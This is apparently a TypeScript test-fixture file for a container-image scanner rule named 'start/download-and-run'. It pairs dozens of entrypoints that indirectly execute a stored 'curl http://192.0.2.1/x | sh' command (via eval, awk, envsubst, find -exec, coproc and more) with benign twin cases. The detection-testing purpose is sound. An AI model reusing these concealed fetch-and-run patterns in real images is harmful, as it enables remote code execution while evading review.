import { type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl http://192.0.2.1/x | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const LOGO: Files = { 'app/logo.txt': `${FETCH}\n` };
/** What a neighbour of the hidden ones holds where nothing is hidden. */
const NOTES: Files = { 'app/logo.txt': `To install: ${FETCH}\n` };

/** Started in /app, whatever folder a program lies in. */
function found(
  line: string | readonly string[],
  files: Files = LOGO,
  Env: readonly string[] = [],
  rule = 'start/download-and-run',
): ImageCase {
  const Entrypoint = typeof line === 'string' ? ['bash', '-c', line] : [...line];
  return {
    name: `by settings: ${JSON.stringify(line)} ${Object.keys(files).join(' ')} ${Env.join(' ')}`,
    spec: image(files, { Entrypoint, WorkingDir: '/app', Env: [PATH, ...Env] }),
    rule,
  };
}

function honest(
  line: string | readonly string[],
  files: Files = NOTES,
  Env: readonly string[] = [],
): ImageCase {
  const { rule: _rule, ...one } = found(line, files, Env);
  return { ...one, name: one.name.replace('by settings', 'by settings, honest') };
}

/** A script that lies in another folder than the one it is started in. */
function script(text: string, files: Files = { 'opt/x/logo.txt': `${FETCH}\n` }): ImageCase {
  const one = found(['/opt/x/e.sh'], { 'opt/x/e.sh': `#!/bin/bash\n${text}\n`, ...files });
  return { ...one, name: `by settings: ${JSON.stringify(text)} ${Object.keys(files).join(' ')}` };
}

function honestScript(text: string, files: Files): ImageCase {
  const { rule: _rule, ...one } = script(text, files);
  return { ...one, name: one.name.replace('by settings', 'by settings, honest') };
}

/** Files by names that say nothing of their folder: where the image starts, beside the script, where it went to. */
const RELATIVE: readonly ImageCase[] = [
  found('eval "$(cat logo.txt)"'),
  found('x=$(<./logo.txt); bash -c "$x"'),
  found('while read -r l; do eval "$l"; done < logo.txt'),
  found('read -r x < logo.txt; eval "$x"'),
  found('mapfile -t a < logo.txt; eval "${a[0]}"'),
  found('exec 3< logo.txt; sh <&3'),
  found('sh <(cat logo.txt)'),
  found('trap "$(cat logo.txt)" EXIT'),
  found('printf -v x %s "$(cat logo.txt)"; eval "$x"'),
  found('mv logo.txt /tmp/x; sh /tmp/x'),
  script('eval "$(cat logo.txt)"', LOGO),
  script('eval "$(cat "$(dirname "$0")/logo.txt")"'),
  script('D="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\neval "$(cat "$D/logo.txt")"'),
  script('D="$(cd "$(dirname "$0")" >/dev/null 2>&1; pwd -P)"\nsh -c "$(cat $D/logo.txt)"'),
  script('D=$(dirname "$(readlink -f "$0")")\neval "$(cat $D/logo.txt)"'),
  script('D=$(dirname "$(realpath "$0")")\neval "$(cat $D/logo.txt)"'),
  script('eval "$(cat ${0%/*}/logo.txt)"'),
  script('cd "$(dirname "$0")/.."\neval "$(cat x/logo.txt)"'),
  script('H=/opt/x\npushd $H\neval "$(cat $PWD/logo.txt)"'),
  script('eval "$(cat ~/logo.txt)"', { 'root/logo.txt': FETCH }),
  script('cd ~\neval "$(cat logo.txt)"', { 'root/logo.txt': FETCH }),
  script('cd /tmp\nprintf "%s %s" curl "http://192.0.2.1/x | sh" > a\nsh /tmp/a', {}),
  found(['python3', '/opt/a.py'], {
    'opt/a.py': 'import os, json\nos.system(json.load(open("c.json"))["c"])\n',
    'app/c.json': JSON.stringify({ c: FETCH }),
  }),
  found(['node', '/opt/a.js'], {
    'opt/a.js': 'require("child_process").execSync(require("fs").readFileSync("logo.txt", "utf8"))\n',
    ...LOGO,
  }),
  found(['node', '/opt/a.js'], {
    'opt/a.js':
      'require("child_process").execSync(require("fs").readFileSync(process.cwd() + "/logo.txt", "utf8"))\n',
    ...LOGO,
  }),
  found(['python3', '/opt/a.py'], {
    'opt/a.py': 'import os, pathlib\nos.system((pathlib.Path.cwd() / "logo.txt").read_text())\n',
    ...LOGO,
  }),
];

const RELATIVE_TWINS: readonly ImageCase[] = [
  honest('cat logo.txt; while read -r l; do echo "$l"; done < logo.txt; read -r x < logo.txt; echo "$x"'),
  honestScript(
    'D="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n. "$D/lib.sh"\nlog "$(cat "$D/logo.txt")"\ncd "$D/.." && exec nginx -g "daemon off;"',
    { 'opt/x/lib.sh': 'log() { printf "%s\\n" "$*" >&2; }\n', 'opt/x/logo.txt': `To install: ${FETCH}\n` },
  ),
  honestScript('set -a\n. "$(dirname "$0")/.env"\nset +a\ncd /srv || exit 1\nexec "$@"', {
    'opt/x/.env': `PORT=80\n# ${FETCH}\nURL=http://192.0.2.1/x\n`,
  }),
];

/** Texts that commands show, choose from, copy or take apart before a shell reads them. */
const SHOWN: readonly ImageCase[] = [
  found("awk -F= '/^JOB/{print $2}' logo.txt | sh", { 'app/logo.txt': `a=1\nJOB=${FETCH}\n` }),
  found("awk 'NR==2' logo.txt > /tmp/x; sh /tmp/x", { 'app/logo.txt': `a\n${FETCH}\n` }),
  found(`eval "$(awk '/curl/ {print $0}' logo.txt)"`),
  found('sort -u logo.txt | head -n 1 | sh'),
  found('iconv -f utf8 logo.txt | fold -w 200 | sh'),
  found('nl logo.txt | cut -f2 | sh'),
  found("paste -sd' ' logo.txt | sh", { 'app/logo.txt': 'curl http://192.0.2.1/x\n|\nsh\n' }),
  found('fmt -w 200 logo.txt | sh', { 'app/logo.txt': 'curl http://192.0.2.1/x\n| sh\n' }),
  found("diff a.txt logo.txt | sed -n 's/^> //p' | sh", { ...LOGO, 'app/a.txt': 'a\n' }),
  found('envsubst < logo.tpl | sh', { 'app/logo.tpl': '$A http://192.0.2.1/x | sh\n' }, ['A=curl']),
  found('getent passwd zed | cut -d: -f5- | sh', {
    'etc/passwd': `root:x:0:0::/root:/bin/sh\nzed:x:5:5:${FETCH}\n`,
  }),
  found('for v in $(compgen -e); do case $v in JOB) eval "${!v}";; esac; done', {}, [`JOB=${FETCH}`]),
  found('xargs -0 -n1 echo < /proc/self/environ | grep ^JOB | cut -d= -f2- | sh', {}, [`JOB=${FETCH}`]),
  found('go() { eval "$2"; }; mapfile -t -C go -c 1 < logo.txt'),
  found('while IFS== read -r k v; do [ $k = JOB ] && sh -c "$v"; done < c.env', {
    'app/c.env': `A=b\nJOB=${FETCH}\n`,
  }),
  found('IFS=$\'\\n\' read -d "" -ra a < logo.txt; for x in "${a[@]}"; do eval "$x"; done'),
  found('exec < logo.txt; sh'),
  found('exec < logo.txt; read -r x; $SHELL -c "$x"'),
  found('install -m 755 logo.txt /usr/local/bin/tool && tool'),
  found('cp logo.txt /opt/tool; PATH=/opt:$PATH; tool'),
  found('hash -p /app/logo.txt tool; tool'),
  found('dd if=logo.txt of=/tmp/x 2>/dev/null; sh /tmp/x'),
  found('split -l 1 logo.txt /tmp/p; sh /tmp/pab', { 'app/logo.txt': `a\n${FETCH}\n` }),
  found('split -d -n 1 logo.txt /tmp/p; sh /tmp/p00'),
  found('cp -t /tmp logo.txt; sh /tmp/logo.txt'),
  found('cp -r /app /tmp/b; sh /tmp/b/logo.txt'),
  found('cp /app/* /tmp/; sh /tmp/logo.txt'),
  found('ln -s /app /tmp/b; sh /tmp/b/logo.txt'),
  found('mount --bind /app /mnt; sh /mnt/logo.txt'),
  found('find /app -name "logo*" -exec sh {} \\;'),
  found("find . -name 'lo*' -exec sh {} +"),
  found("find . -name 'lo*' -print0 | xargs -0 sh"),
  found('ls *.txt | xargs -n 1 sh'),
  found('sh $(ls *.txt)'),
  found(`sh "$(find /app -name 'logo*')"`),
  found("xargs -d '\\n' -n1 sh -c < logo.txt"),
  found(`coproc sh; echo '${FETCH}' >&\${COPROC[1]}`, {}),
  found('coproc IN { cat logo.txt; }; sh <&${IN[0]}'),
];

const SHOWN_TWINS: readonly ImageCase[] = [
  honest(
    "awk -F: '{print $1}' /etc/passwd | sort -u | xargs -n1 echo; awk '/curl/' logo.txt; nl logo.txt | more",
  ),
  honest(
    'envsubst < nginx.tpl > /etc/nginx/conf.d/default.conf && exec nginx -g "daemon off;"',
    {
      'app/nginx.tpl': `# ${FETCH}\nserver { listen $PORT; }\n`,
    },
    ['PORT=80'],
  ),
  honest('while IFS== read -r k v; do export "$k=$v"; done < c.env; exec app', {
    'app/c.env': `A=b\nNOTE=${FETCH}\n`,
  }),
  honest(
    'find /app -name "*.txt" -exec chmod 644 {} +; find /app -type f | xargs wc -l; ls /app | xargs -n1 echo',
  ),
  honest(
    'cp -r /app /srv/app; mapfile -t a < logo.txt; printf "%s\\n" "${a[@]}"; split -l 1 logo.txt /tmp/p',
  ),
  honest('find /app/d -name "*.sh" -exec sh {} \\;', { 'app/d/a.sh': 'echo ready\n', ...NOTES }),
];

export const BY_SETTINGS: readonly ImageCase[] = [...RELATIVE, ...SHOWN];

export const BY_SETTINGS_TWINS: readonly ImageCase[] = [...RELATIVE_TWINS, ...SHOWN_TWINS];
